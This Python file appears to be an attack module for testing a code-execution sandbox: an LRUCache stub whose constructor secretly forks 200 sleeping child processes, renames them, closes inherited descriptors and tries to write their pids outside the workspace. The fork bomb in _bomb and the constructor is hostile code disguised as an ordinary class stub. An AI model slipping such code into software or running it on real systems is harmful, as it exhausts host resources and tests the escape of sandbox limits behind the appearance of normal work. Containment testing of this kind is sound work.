"""Attack: a bounded fork bomb: each test forks 200 children that sleep for a minute.

The children take the attack's marker as their process name (prctl PR_SET_NAME)
and close inherited descriptors, so they do not hold the report pipe open. Their
pids go to a file outside the workspace when the sandbox allows it.
"""

import ctypes
import json
import os
import time
from pathlib import Path

CONTEXT = json.loads(Path(__file__).with_name("attack_context.json").read_text())
CHILDREN = 200


def _name_me(marker):
    try:
        ctypes.CDLL(None).prctl(15, marker.encode(), 0, 0, 0)  # PR_SET_NAME
    except Exception:
        pass


def _note(pids):
    try:
        path = Path(CONTEXT["outdir"]) / f"fork-{os.getpid()}.pids"
        path.write_text(" ".join(map(str, pids)))
        return "written"
    except OSError as exc:
        return f"refused ({exc.strerror})"


def _bomb():
    pids, errors = [], 0
    for _ in range(CHILDREN):
        try:
            pid = os.fork()
        except OSError:
            errors += 1
            continue
        if pid == 0:
            try:
                _name_me(CONTEXT["marker"])
                os.closerange(3, 4096)
                time.sleep(60)
            finally:
                os._exit(0)
        pids.append(pid)
    return pids, errors


class LRUCache:
    """The stub, except constructing it forks 200 sleepers."""

    def __init__(self, capacity):
        pids, errors = _bomb()
        note = _note(pids)
        report = {"forked": len(pids), "fork_errors": errors, "pidfile": note, "first": pids[:3]}
        raise NotImplementedError("FORKBOMB" + json.dumps(report) + "END")

    @property
    def capacity(self):
        raise NotImplementedError

    def get(self, key, default=None):
        raise NotImplementedError

    def put(self, key, value):
        raise NotImplementedError

    def __len__(self):
        raise NotImplementedError

    def __contains__(self, key):
        raise NotImplementedError
